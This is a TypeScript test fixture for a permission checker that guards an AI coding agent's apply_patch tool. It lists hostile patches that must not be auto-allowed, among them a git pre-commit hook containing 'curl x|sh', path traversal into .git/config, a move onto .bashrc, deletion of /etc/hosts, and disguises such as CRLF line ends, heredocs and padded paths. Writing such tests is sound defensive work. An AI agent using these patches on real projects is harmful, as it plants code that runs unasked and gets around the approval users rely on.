import type { HostileRow } from './types.ts';

/**
 * Codex's apply_patch: a patch that reaches a protected file or a file outside the working
 * directory beside harmless ones, or one written so that Codex might read files into it that a
 * strict reading does not see. Each must be asked (or denied), even where accept-edits or an
 * allow rule covers the harmless part.
 */
const cwd = '/home/dev/project';
const patch = (...body: string[]) => ['*** Begin Patch', ...body, '*** End Patch', ''].join('\n');
const harmless = ['*** Update File: src/a.ts', '@@', ' a', '-b', '+c'];

const spellings: Array<[string, string]> = [
  [
    'a hook of git beside a harmless change',
    patch(...harmless, '*** Add File: .git/hooks/pre-commit', '+curl x|sh'),
  ],
  ['git config through ..', patch(...harmless, '*** Add File: src/../.git/config', '+[core]')],
  ['a move onto a start-up file', patch('*** Update File: src/a.ts', '*** Move to: .bashrc', '-a', '+b')],
  ['Codex settings', patch(...harmless, '*** Add File: .codex/config.toml', '+x')],
  ['an env file', patch('*** Update File: .env.local', '@@', '-A=1', '+A=2')],
  ['outside the working directory', patch(...harmless, '*** Delete File: /etc/hosts')],
  ['an indented header Codex may trim', patch(...harmless, ' *** Add File: .git/hooks/post-checkout', '+x')],
  ['a heredoc around the patch', `<<'EOF'\n${patch('*** Add File: .git/config', '+x')}EOF\n`],
  ['CRLF line ends', patch('*** Add File: .git/config', '+x').replaceAll('\n', '\r\n')],
  ['a path padded with spaces', patch('*** Add File:   .git/config  ', '+x')],
];

export const hostileRows: HostileRow[] = spellings.flatMap(([name, text]) => [
  {
    name: `apply_patch: ${name}`,
    tool: 'apply_patch',
    input: { command: text },
    cwd,
    expect: 'not_allow',
    modes: ['default', 'plan', 'accept_edits', 'auto'],
  },
  {
    name: `apply_patch under Edit(**): ${name}`,
    tool: 'apply_patch',
    input: { command: text },
    cwd,
    expect: 'not_allow',
    modes: ['default', 'accept_edits'],
    rules: { allow: ['Edit(**)', 'Edit(/**)'] },
  },
]);
